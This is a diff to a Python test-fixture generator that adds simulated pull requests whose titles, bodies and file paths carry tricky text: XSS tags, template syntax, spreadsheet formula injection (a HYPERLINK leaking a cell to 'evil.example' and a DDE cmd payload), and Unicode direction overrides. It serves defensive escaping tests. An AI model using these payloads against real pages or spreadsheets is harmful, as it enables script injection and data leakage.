@@ -55,20 +55,51 @@ CASES = [
 ]
 
 
-def add_hard_cases(world: World, repo, start, *, include_giant_pr: bool) -> None:
+# Text a page, a template or a spreadsheet could take for markup or a formula (the real
+# shape adds them: `add_hard_cases(text_cases=True)`): name -> (title, body, paths).
+TEXT_CASES = {
+    "markup_text": (
+        '<script>alert("pwned")</script> Fix <b>bold</b> & {{ user.name }} in {% trans %}',
+        "</textarea><img src=x onerror=alert(1)>\n\n| a | b |\n|---|---|\n| `<td>` | &amp; |\n\n"
+        '<details><summary>Logs</summary>\n\n```html\n<div class="x">\n```\n</details>',
+        ["templates/<b>bold</b>.html", "docs/a & b <draft>.md", "src/{{ name }}.py"],
+    ),
+    "formula_text": (
+        '=HYPERLINK("https://evil.example/?q="&A1,"Click me")',
+        "+1+1\n-2+3\n@SUM(A1:A9)\n\t=cmd|' /C calc'!A0\n\r=1+1",
+        ["reports/=SUM(A1).csv", "data/+plus -minus @at.txt", "exports/\t=tab.csv"],
+    ),
+    "unicode_text": (
+        "Añadir soporte 日本語 🚀 — naïve façade, Zürich, مرحبا, e\u0301, a\u200db",
+        "Emoji 👩‍👩‍👧‍👦, RTL \u202eevil\u202c, combining n\u0303, NBSP a\u00a0b, 𝔘𝔫𝔦𝔠𝔬𝔡𝔢.",
+        ["docs/ñandú 🐦.md", "locale/עברית/messages.po", "src/mod\u00e9le/caf\u00e9.py"],
+    ),
+}
+
+
+def add_hard_cases(
+    world: World, repo, start, *, include_giant_pr: bool, text_cases: bool = False
+) -> None:
     rng = random.Random(f"{world.seed}:hard")
     cases = CASES + (
         [("giant", "Import legacy monorepo", "jonas-weber", "merged", 3050, 260, 1)]
         if include_giant_pr
         else []
     )
+    if text_cases:
+        cases = cases + [(name, "", "noah-kim", "merged", 3, 1, 1) for name in TEXT_CASES]
     for i, (name, title, login, outcome, files, commits, reviews) in enumerate(cases):
         author = world.accounts[login] if login else None
         pr = world.new_pull(repo, author, start + timedelta(minutes=60 * i + 5))
         pr.title = title
         pr.body = f"{title}.\n\nSee the linked issue for context."
         trailer = None
-        if name == "unicode_paths":
+        if name in TEXT_CASES:
+            pr.title, pr.body, paths = TEXT_CASES[name]
+            pr.files = [
+                ChangedFile(path, "added", 5, 0, fake_sha("text", pr.id, path)) for path in paths
+            ]
+        elif name == "unicode_paths":
             pr.files = [
                 ChangedFile(
                     f.path, f.status, f.additions, f.deletions, f.sha, f.previous_path, f.binary
